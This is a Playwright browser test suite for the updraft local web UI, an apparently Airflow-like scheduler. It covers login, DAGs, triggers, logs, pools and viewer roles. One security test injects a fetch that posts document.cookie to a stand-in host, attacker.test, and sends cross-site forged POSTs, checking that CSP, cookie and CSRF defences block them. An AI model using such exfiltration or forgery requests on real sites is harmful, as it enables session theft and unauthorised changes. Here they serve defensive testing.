"""The whole loop a new user does in the browser, against ``updraft local``: sign in, list DAGs (with the import
errors banner), unpause, trigger with params, watch the grid turn green, open a failed try's log, see pools; a
VIEWER gets no trigger or clear buttons. Each page is saved as a screenshot in tests/browser/artifacts/."""

from __future__ import annotations

import re

from tests.browser.browser_helpers import Page, api_call, other_site


def test_sign_in_then_the_dag_list_shows_dags_tags_and_import_errors(page: Page):
    """With users (the session answers nobody until the form signs in: stood in for by the page's answer, since
    local all-admins mode opens its session itself) the login page comes first, then the list (the page keeps the
    session the sign-in answered, so it asks no more)."""
    p = page.page
    signed_out = {"username": None, "role": None, "csrf_token": None, "all_admins": False}
    p.route("**/ui/session", lambda route: route.fulfill(json=signed_out) if route.request.method == "GET"
            else route.fallback())
    page.goto("/dags")
    p.wait_for_url(re.compile(r"/auth/login\?next=%2Fdags$"))  # no session yet: the login page first
    p.get_by_label("Username").fill("admin")
    p.get_by_label("Password").fill("admin")
    page.shot("01-login")
    p.get_by_role("button", name="Sign in").click()
    p.wait_for_url(re.compile(r"/dags$"))
    rows = p.locator("table.dags tbody tr")
    rows.first.wait_for()
    assert rows.evaluate_all("rs => rs.map(r => r.dataset.dagId)") == ["ui_fails", "ui_smoke"]
    banner = p.get_by_role("alert", name="Import errors")
    assert "1 DAG import error" in banner.inner_text()
    banner.locator("summary").click()
    assert "NameError: name 'this' is not defined" in banner.inner_text()
    assert p.locator("#who").inner_text().startswith("admin (ADMIN)")
    # The search box filters by id, and the URL keeps the filter (shareable).
    p.get_by_label("Search DAGs").fill("smoke")
    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 1")
    assert "search=smoke" in p.url
    p.get_by_label("Search DAGs").fill("")
    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 2")
    p.locator(".filters summary", has_text="Tags").click()  # the tags filter (a drop-down), also kept in the URL
    p.get_by_role("group", name="Tags").get_by_role("checkbox", name="smoke").check()
    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 1")
    assert "tags=smoke" in p.url and p.locator("table.dags tbody tr").get_attribute("data-dag-id") == "ui_smoke"
    p.get_by_role("group", name="Tags").get_by_role("checkbox", name="smoke").uncheck()
    p.wait_for_function("() => document.querySelectorAll('table.dags tbody tr').length === 2")
    page.shot("02-dag-list")


def test_unpause_trigger_with_params_and_the_grid_turns_green(signed_in: Page):
    page, p = signed_in, signed_in.page
    page.goto("/dags")
    switch = p.get_by_role("switch", name="ui_smoke is paused")
    switch.click()
    p.get_by_role("switch", name="ui_smoke is active").wait_for()
    assert api_call(page.url, "GET", "dags/ui_smoke")["is_paused"] is False

    p.get_by_role("link", name="ui_smoke").click()
    p.wait_for_url(re.compile(r"/dags/ui_smoke$"))
    p.get_by_role("button", name="Trigger").click()
    form = p.get_by_role("form", name="Trigger")
    assert form.get_by_label("n", exact=True).input_value() == "2"  # the param's default
    # The schema's minimum is the input's: the browser refuses -1 before anything is sent.
    form.get_by_label("n", exact=True).fill("-1")
    form.get_by_role("button", name="Trigger").click()
    assert form.get_by_label("n", exact=True).evaluate("input => input.validity.rangeUnderflow") is True
    assert api_call(page.url, "GET", "dags/ui_smoke/dagRuns")["total_entries"] == 0
    form.get_by_label("n", exact=True).fill("4")
    form.get_by_label("mode", exact=True).select_option(label="slow")
    form.get_by_label("verbose", exact=True).check()
    form.get_by_label("Run id").fill("from_the_browser")
    page.shot("03-trigger-form")
    form.get_by_role("button", name="Trigger").click()
    p.wait_for_url(re.compile(r"/dags/ui_smoke/runs/from_the_browser$"))

    # The grid refreshes itself (no reload: the marker survives) until every cell of the run says success.
    p.evaluate("window.stillTheSamePage = true")
    for task in ("produce", "checks.count", "checks.total", "square"):
        p.get_by_label(f"{task} in from_the_browser: success").wait_for(timeout=60_000)
    p.get_by_label("run from_the_browser: success").first.wait_for()
    assert p.evaluate("window.stillTheSamePage") is True
    assert api_call(page.url, "GET", "dags/ui_smoke/dagRuns/from_the_browser")["conf"] == {
        "n": 4, "mode": "slow", "verbose": True}
    details = p.get_by_role("region", name="Run details")
    text = details.inner_text()
    assert "Run type\nmanual" in text and '"n": 4' in text and '"mode": "slow"' in text
    assert "Triggered by\nrest_api" in text  # Airflow's triggered_by for a run the UI triggers through the REST API
    # The grid's duration bars: the run's bar over its column, as tall as its share of the longest run.
    fill = p.locator("table.grid thead th.selected .bar .fill")
    assert float(fill.get_attribute("data-duration")) > 0 and fill.evaluate("e => e.offsetHeight") > 0
    # The graph: the selected run's colours, and an edge from produce into the group's tasks.
    assert p.locator('.graph [data-task-id="checks.total"] title').text_content() == "checks.total: success"
    assert p.locator('.graph [data-edge="produce->checks.total"]').count() == 1
    # Times are the browser's timezone, UTC on hover.
    assert p.locator("time").first.get_attribute("title").endswith(" UTC")
    page.shot("04-dag-grid-run")

    # Task groups collapse into one row.
    p.get_by_role("button", name="▾ checks").click()
    assert p.locator('tr[data-row="checks.total"]').count() == 0
    assert p.get_by_label("checks in from_the_browser: success").count() == 1

    # A mapped task: one cell with its count, its page lists the instances, each with its own log.
    assert p.get_by_label("square in from_the_browser: success").locator("sub").inner_text() == "4"
    p.get_by_label("square in from_the_browser: success").click()
    p.get_by_role("link", name="[2]").click()
    p.wait_for_url(re.compile(r"/tasks/square/mapped/2$"))
    p.get_by_text("squaring 2").wait_for()
    assert p.get_by_role("region", name="XComs").get_by_text("4", exact=True).count() == 1
    page.shot("05b-mapped-instance")
    p.go_back()
    p.go_back()
    p.wait_for_url(re.compile(r"/dags/ui_smoke/runs/from_the_browser$"))

    p.get_by_label("produce in from_the_browser: success").click()
    p.wait_for_url(re.compile(r"/dags/ui_smoke/runs/from_the_browser/tasks/produce$"))
    p.get_by_text("producing 4 slow").wait_for()
    assert "[ 0, 1, 2, 3 ]" in p.get_by_role("region", name="XComs").inner_text()
    page.shot("05-task-instance")

    # What the API refuses is shown, not swallowed: the same run id again is Airflow's 409.
    page.expect_refusal(409, "/api/v2/dags/ui_smoke/dagRuns")
    p.get_by_role("link", name="ui_smoke").click()
    p.get_by_role("button", name="Trigger").click()
    form = p.get_by_role("form", name="Trigger")
    form.get_by_label("Run id").fill("from_the_browser")
    form.get_by_role("button", name="Trigger").click()
    assert form.get_by_role("alert").inner_text().startswith("409: ")


def test_a_failed_try_shows_its_log(signed_in: Page):
    page, p = signed_in, signed_in.page
    api_call(page.url, "PATCH", "dags/ui_fails", {"is_paused": False})
    api_call(page.url, "POST", "dags/ui_fails/dagRuns", {"dag_run_id": "will_fail", "logical_date": None})
    page.goto("/dags/ui_fails/runs/will_fail")
    cell = p.get_by_label("boom in will_fail: failed")
    cell.wait_for(timeout=60_000)
    cell.click()
    p.wait_for_url(re.compile(r"/tasks/boom$"))
    log = p.get_by_label("Log", exact=True)
    p.wait_for_function("() => document.querySelector('pre.log')?.textContent.includes('boom from the browser test')")
    assert "about to fail on purpose" in log.inner_text()
    assert p.get_by_role("tab", name="Try 1").get_attribute("aria-selected") == "true"
    assert "failed" in p.locator(".title .badge").inner_text()
    page.shot("06-failed-log")
    _clear_and_see_it_rerun(page)


def _clear_and_see_it_rerun(page: Page):
    """Clear the failed try from its page (Airflow's clearTaskInstances route): it reruns (try 2)."""
    p = page.page
    p.get_by_role("button", name="Clear…", exact=True).click()
    p.get_by_role("form", name="Clear").get_by_role("button", name="Confirm clear").click()
    p.get_by_role("tab", name="Try 2").wait_for(timeout=60_000)


def test_pools_page_shows_slots_and_the_dag_list_the_last_runs(signed_in: Page):
    page, p = signed_in, signed_in.page
    api_call(page.url, "POST", "dags/ui_fails/dagRuns", {"dag_run_id": "listed", "logical_date": None})
    page.goto("/dags")
    p.get_by_label("run listed: failed").wait_for(timeout=60_000)  # the list follows the unfinished run
    page.shot("02b-dag-list-with-runs")
    page.goto("/pools")
    row = p.locator("tbody tr", has_text="default_pool")
    row.wait_for()
    assert row.locator("td").nth(1).inner_text() == "128"
    page.shot("07-pools")


def test_a_viewer_gets_no_trigger_pause_or_clear(signed_in: Page):
    """The UI hides the buttons by the role the session names (local mode's all-admins API would let them through,
    so the session's answer is a VIEWER's here)."""
    page, p = signed_in, signed_in.page
    viewer = {"username": "vera", "role": "VIEWER", "csrf_token": "unused"}
    p.route("**/ui/session", lambda route: route.fulfill(json=viewer) if route.request.method == "GET"
            else route.fallback())
    page.goto("/dags/ui_smoke")
    p.locator("table.grid, .grid-box p").first.wait_for()
    assert p.get_by_role("button", name="Trigger").count() == 0
    assert p.get_by_role("switch").is_disabled()
    assert p.locator("#who").inner_text().startswith("vera (VIEWER)")
    page.shot("08-viewer")


def test_script_in_a_signed_in_page_reads_no_token_runs_no_inline_code_and_changes_nothing_alone(page: Page):
    """What script injected into a page (``page.evaluate`` stands for it) can reach: not the token (an HttpOnly
    cookie, nothing in storage), and a change through the session only with the page's CSRF token; an inline
    script it adds does not run (the page's Content-Security-Policy); another site's page changes nothing."""
    p = page.page
    page.goto("/dags")  # local all-admins mode: the session opens itself, no sign-in page
    p.locator("table.dags tbody tr").first.wait_for()
    (cookie,) = [c for c in p.context.cookies() if c["name"] == "_token"]
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/ui")
    seen = p.evaluate("() => JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}])")
    assert cookie["value"] not in seen and seen == '["",{},{}]'

    with p.expect_console_message(lambda m: m.text.startswith("CSP violation:")):
        injected = p.evaluate("""() => { const s = document.createElement("script");
            s.textContent = "window.injected = true"; document.body.append(s); return window.injected === true; }""")
    assert injected is False
    with p.expect_console_message(lambda m: m.text.startswith("CSP violation:")):  # nor sends anything away
        sent = p.evaluate("""() => fetch("http://attacker.test/collect", {method: "POST", body: document.cookie})
            .then(() => true, () => false)""")
    assert sent is False
    assert [v.split(" blocked")[0] for v in page.csp_violations] == [
        "CSP violation: script-src-elem", "CSP violation: connect-src"]
    page.csp_violations.clear()  # provoked on purpose, as Chromium's own reports of them
    page.errors[:] = [e for e in page.errors if "Content Security Policy" not in e]

    page.expect_refusal(403, "/api/v2/pools")  # through the session without the token, and cross-site
    post = """async ([target, headers]) => (await fetch(target, {method: "POST", headers: {"Content-Type":
        "application/json", ...headers}, body: JSON.stringify({name: "by_script", slots: 1})})).status"""
    assert p.evaluate(post, [page.url + "/ui/api/v2/pools", {}]) == 403  # the cookie alone: refused
    csrf = p.evaluate("async () => (await (await fetch('/ui/session')).json()).csrf_token")
    assert p.evaluate(post, [page.url + "/ui/api/v2/pools", {"X-CSRF-Token": csrf}]) == 201  # the page's way

    # Another site's page (at localhost, another site than 127.0.0.1, and loopback too, which Chromium requires of
    # a page reaching 127.0.0.1) sends simple cross-site requests (no preflight) with credentials: the browser
    # sends no Strict cookie and says the request is cross-site; the API refuses both.
    with other_site() as attacker:
        p.goto(attacker)
        for target in (page.url + "/ui/api/v2/pools", page.url + "/api/v2/pools"):
            with p.expect_response(target) as answer:
                p.evaluate("""async (target) => { await fetch(target, {method: "POST", mode: "no-cors",
                    credentials: "include", headers: {"Content-Type": "text/plain"},
                    body: JSON.stringify({name: "cross_site", slots: 1})}); }""", target)
            assert answer.value.status == 403  # the API's answer (all-admins /api/v2 needs no credential at all)
    names = [pool["name"] for pool in api_call(page.url, "GET", "pools")["pools"]]
    assert "by_script" in names and "cross_site" not in names
    api_call(page.url, "DELETE", "pools/by_script")

    page.goto("/dags")
    p.locator("table.dags tbody tr").first.wait_for()
    p.wait_for_load_state("networkidle")
    assert p.get_by_role("button", name="Sign out").count() == 0  # all-admins: nobody to sign out
    assert p.evaluate("async () => (await fetch('/ui/session', {method: 'DELETE'})).status") == 204
    assert [c for c in p.context.cookies() if c["name"] == "_token"] == []


def test_a_live_page_polls_only_while_visible(signed_in: Page):
    """The DAG page of an active DAG refreshes every 3 s while the tab is visible, and asks nothing while hidden
    (the browser's clock is Playwright's, so no test time is spent waiting)."""
    page, p = signed_in, signed_in.page
    api_call(page.url, "PATCH", "dags/ui_smoke", {"is_paused": False})  # an active DAG's page is live
    p.clock.install()
    page.goto("/dags/ui_smoke")
    p.locator("table.grid, .grid-box p").first.wait_for()
    is_api = lambda request: "/api/v2/" in request.url  # noqa: E731
    with p.expect_request(is_api, timeout=10_000):  # visible: the next period refreshes
        p.clock.run_for(3_500)

    p.evaluate(VISIBILITY % "hidden")
    p.wait_for_load_state("networkidle")
    asked: list[str] = []
    p.on("request", lambda r: is_api(r) and asked.append(r.url))
    p.clock.run_for(30_000)  # ten polling periods
    p.wait_for_load_state("networkidle")
    assert asked == []

    with p.expect_request(is_api, timeout=10_000):  # back in view: it catches up at once, not a period later
        p.evaluate(VISIBILITY % "visible")


VISIBILITY = """() => {
  Object.defineProperty(document, "visibilityState", { get: () => "%s", configurable: true });
  document.dispatchEvent(new Event("visibilitychange"));
}"""
